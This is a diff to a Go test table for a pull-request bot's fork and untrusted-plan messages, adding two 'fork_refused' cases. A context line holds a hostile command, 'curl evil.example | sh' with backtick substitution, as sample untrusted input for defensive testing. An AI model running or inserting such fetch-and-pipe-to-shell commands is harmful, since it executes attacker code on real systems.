@@ -252,6 +252,8 @@ var cases = []struct {
 	{"fork_notice", "fork_notice", ForkNotice{Fork: "eve/r", Files: []string{"ROADMAP.md", "specs/login/tasks.md"}, Branch: "akira/pr-12"}},
 	{"fork_refused_workflows", "fork_refused", ForkRefused{Workflows: []string{".github/workflows/ci.yml"}}},
 	{"fork_refused_moved", "fork_refused", ForkRefused{Asked: "0123456789abcdef", Now: "fedcba9876543210"}},
+	{"fork_refused_late", "fork_refused", ForkRefused{Late: "fedcba9876543210"}},
+	{"fork_refused_unseen", "fork_refused", ForkRefused{Late: "fedcba9876543210", Unseen: true}},
 	{"fork_run", "fork_run", ForkRun{Branch: "akira/pr-12", BranchURL: "https://github.com/o/r/tree/akira/pr-12", Head: "0123456789abcdef", PR: 13}},
 	{"untrusted_plan_fork", "untrusted_plan", UntrustedPlan{Fork: "eve/r", Commands: []string{"make test"}}},
 	{"untrusted_plan", "untrusted_plan", UntrustedPlan{Author: "stranger", Permission: "read", Commands: []string{"make test", "curl evil.example | sh `x`"}}},
